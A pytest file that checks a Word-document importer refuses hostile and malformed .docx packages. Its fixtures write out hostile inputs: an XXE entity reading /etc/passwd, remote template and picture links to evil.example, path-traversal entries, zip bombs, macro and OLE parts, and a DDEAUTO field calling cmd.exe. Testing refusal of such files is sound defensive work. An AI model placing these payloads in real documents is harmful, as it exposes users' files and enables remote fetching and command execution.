"""Hostile and broken files: one clear finding each with the file's name, no traceback, nothing opened."""

from __future__ import annotations

import contextlib
import io
import zipfile
from collections.abc import Callable

import pytest
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls
from hypothesis import given, settings
from hypothesis import strategies as st

from patokaz.findings import FindingsError, KbError
from patokaz.word import import_word, package
from word_edits import Trip, opened, part, repacked, saved

TRIP = Trip()
DATA = TRIP.data
RELATIONS = "word/_rels/document.xml.rels"


def refused(data: bytes) -> tuple[str, str]:
    """(code, message) of the one finding."""
    with pytest.raises(FindingsError) as caught:
        import_word(data, "in/w.docx", TRIP.origin)
    (found,) = caught.value.findings
    assert found.location.path == "in/w.docx"
    assert found.hint
    return found.code, found.message


def added(name: str, content: bytes) -> bytes:
    return repacked(DATA, {name: content})


def replaced(name: str, old: bytes, new: bytes) -> bytes:
    content = part(DATA, name)
    assert old in content
    return repacked(DATA, {name: content.replace(old, new, 1)})


def related(kind: str, target: str, mode: str = ' TargetMode="External"') -> bytes:
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    one = f'<Relationship Id="rId900" Type="{base}/{kind}" Target="{target}"{mode}/></Relationships>'
    return replaced(RELATIONS, b"</Relationships>", one.encode())


def typed(kind: str) -> bytes:
    one = f'<Override PartName="/word/x.bin" ContentType="{kind}"/></Types>'
    return replaced("[Content_Types].xml", b"</Types>", one.encode())


def encrypted() -> bytes:
    """The flag of encryption set on every entry, in both places where a zip has it."""
    data = bytearray(DATA)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = data.find(signature)
        while place >= 0:
            data[place + offset] |= 1
            place = data.find(signature, place + 4)
    return bytes(data)


def lying_about_its_size() -> bytes:
    """A part that says it has ten bytes and has many more."""
    data = bytearray(added("word/big.xml", b"<a>" + b" " * 400_000 + b"</a>"))
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        place = data.find(signature)
        while place >= 0:
            if data[place : place + 200].find(b"word/big.xml") in (30, 46):
                data[place + offset : place + offset + 4] = (10).to_bytes(4, "little")
            place = data.find(signature, place + 4)
    return bytes(data)


def twice() -> bytes:
    buffer = io.BytesIO(DATA)
    with zipfile.ZipFile(buffer, "a") as package, pytest.warns(UserWarning, match="Duplicate"):
        package.writestr("word/document.xml", b"<a/>")
    return buffer.getvalue()


def many() -> bytes:
    return repacked(DATA, {f"word/media/{n}.png": b"" for n in range(package.MAX_ENTRIES + 1)})


DOCTYPE = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
DANGEROUS: dict[str, Callable[[], bytes]] = {
    "bomb": lambda: added("word/media/bomb.xml", b"<a>" + b" " * 20_000_000 + b"</a>"),
    "too large": lambda: added("word/media/large.bin", b"\0" * (package.MAX_ENTRY + 1)),
    "many parts": many,
    "part twice": twice,
    "macro part": lambda: added("word/vbaProject.bin", b"x"),
    "macro type": lambda: typed("application/vnd.ms-office.vbaProject"),
    "docm": lambda: replaced(
        "[Content_Types].xml",
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    ),
    "ole": lambda: added("word/embeddings/oleObject1.bin", b"x"),
    "ole type": lambda: typed("application/vnd.openxmlformats-officedocument.oleObject"),
    "remote template": lambda: related("attachedTemplate", "https://evil.example/t.dotm"),
    "remote picture": lambda: related("image", "https://evil.example/p.png"),
    "foreign chunk": lambda: related("aFChunk", "chunk.html", mode=""),
    "relation leads out": lambda: related("image", "../../../etc/passwd", mode=""),
    "doctype": lambda: replaced("word/document.xml", b"<w:document", DOCTYPE + b"<w:document"),
    "doctype in utf-16": lambda: added(
        "word/x.xml", "<?xml version='1.0' encoding='utf-16'?><!DOCTYPE x []><x/>".encode("utf-16")
    ),
    "odd encoding": lambda: added("word/x.xml", b"<?xml version='1.0' encoding='utf-7'?><x/>"),
    "path up": lambda: added("../evil.xml", b"<a/>"),
    "path from the root": lambda: added("/evil.xml", b"<a/>"),
    "path of windows": lambda: added("C:evil.xml", b"<a/>"),
}


@pytest.mark.parametrize("name", DANGEROUS)
def test_dangerous_files_are_refused(name: str) -> None:
    assert refused(DANGEROUS[name]())[0] == "KB632"


def test_a_field_that_fetches_is_refused() -> None:
    word = opened(DATA)
    word.paragraphs[-1]._p.append(
        parse_xml(
            f'<w:fldSimple {nsdecls("w")} w:instr=" DDEAUTO c:\\\\cmd.exe "><w:r><w:t>x</w:t></w:r></w:fldSimple>'
        )
    )
    assert refused(saved(word)) == ("KB632", "a field fetches from elsewhere: DDEAUTO c:\\\\cmd.exe")


BROKEN: dict[str, Callable[[], bytes]] = {
    "empty": lambda: b"",
    "text": lambda: b"# Markdown\n",
    "half": lambda: DATA[: len(DATA) // 2],
    "password": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
    "encrypted zip": encrypted,
    "size that is not true": lying_about_its_size,
    "other zip": lambda: repacked(DATA, {"[Content_Types].xml": None}),
    "no document": lambda: repacked(DATA, {"word/document.xml": None}),
    "no relations": lambda: repacked(DATA, {"_rels/.rels": None}),
    "document is no xml": lambda: repacked(DATA, {"word/document.xml": b"<w:document"}),
    "styles are no xml": lambda: repacked(DATA, {"word/styles.xml": b"no"}),
    "spreadsheet": lambda: replaced(
        "[Content_Types].xml", b"wordprocessingml.document.main", b"spreadsheetml.sheet.main"
    ),
    "too deep": lambda: replaced("word/document.xml", b"<w:body>", b"<w:body>" + b"<w:sdt>" * 5000),
}


@pytest.mark.parametrize("name", BROKEN)
def test_broken_files_are_refused(name: str) -> None:
    assert refused(BROKEN[name]())[0] == "KB631"


def test_the_wrong_text_is_refused_with_the_right_option() -> None:
    other = Trip("FORM-01")
    with pytest.raises(FindingsError) as caught:
        import_word(other.data, "w.docx", TRIP.origin)
    assert str(caught.value.findings[0]) == (
        "w.docx:1:1: KB631 error: the file was exported from `FORM-01`, not from `SOP-01`\n    hint: give --as FORM-01"
    )
    with pytest.raises(FindingsError) as caught:
        import_word(Trip("SOP-01", "sq").data, "w.docx", TRIP.origin)
    assert caught.value.findings[0].hint == "give --lang sq"


def test_a_text_that_moved_on_is_not_taken_back() -> None:
    old = Trip("index", "en", "Before.")
    new = Trip("index", "en", "Before, and more.")
    with pytest.raises(KbError, match=r"has changed since w\.docx was exported"):
        import_word(old.data, "w.docx", new.origin)
    assert import_word(old.data, "w.docx", new.origin, elsewhere=True).changed == 1


def test_a_file_that_does_not_say_where_it_is_from_is_read_with_a_warning() -> None:
    name = "docProps/custom.xml"
    back = import_word(repacked(DATA, {name: part(DATA, name).replace(b"Patokaz", b"Other")}), "w.docx", TRIP.origin)
    assert back.content == TRIP.origin.content
    assert [f.code for f in back.findings] == ["KB634"]


@settings(max_examples=60)
@given(st.data())
def test_flipped_bytes_never_give_a_traceback(data: st.DataObject) -> None:
    name = data.draw(st.sampled_from(["word/document.xml", "word/styles.xml", "word/numbering.xml", RELATIONS]))
    content = bytearray(part(DATA, name))
    for _ in range(data.draw(st.integers(1, 4))):
        content[data.draw(st.integers(0, len(content) - 1))] = data.draw(st.integers(0, 255))
    with contextlib.suppress(FindingsError, KbError):
        import_word(repacked(DATA, {name: bytes(content)}), "w.docx", TRIP.origin)
